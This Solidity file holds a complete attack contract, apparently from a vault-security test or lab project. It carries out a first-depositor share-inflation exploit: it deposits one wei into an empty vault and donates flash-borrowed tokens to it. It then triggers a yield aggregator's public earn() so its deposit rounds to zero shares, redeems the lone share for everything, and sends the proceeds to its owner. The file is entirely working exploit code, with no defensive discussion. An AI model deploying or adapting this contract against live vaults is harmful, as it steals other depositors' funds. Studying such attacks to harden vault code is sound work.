// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IERC20} from "../interfaces/IERC20.sol";
import {IERC3156FlashBorrower, IERC3156FlashLender} from "../interfaces/IERC3156.sol";
import {Vault} from "../vault/Vault.sol";
import {YieldAggregator} from "../vault/YieldAggregator.sol";

/// @notice Becomes the first depositor of an empty vault with one wei, donates flash-borrowed
/// tokens to it so one share is worth more than the aggregator's idle balance, triggers the
/// aggregator's public `earn()` (its deposit rounds down to zero shares), then redeems the single
/// share for everything.
contract VaultInflation is IERC3156FlashBorrower {
    address private immutable owner;

    constructor() {
        owner = msg.sender;
    }

    function execute(IERC3156FlashLender lender, IERC20 token, Vault vault, YieldAggregator aggregator, uint256 loan)
        external
    {
        require(msg.sender == owner);
        lender.flashLoan(this, address(token), loan, abi.encode(vault, aggregator));
        token.transfer(owner, token.balanceOf(address(this)));
    }

    function onFlashLoan(address, address token, uint256 amount, uint256 fee, bytes calldata data)
        external
        returns (bytes32)
    {
        (Vault vault, YieldAggregator aggregator) = abi.decode(data, (Vault, YieldAggregator));
        IERC20(token).approve(address(vault), 1);
        vault.deposit(1, address(this));
        IERC20(token).transfer(address(vault), amount - 1);
        aggregator.earn();
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
        IERC20(token).approve(msg.sender, amount + fee);
        return keccak256("ERC3156FlashBorrower.onFlashLoan");
    }
}
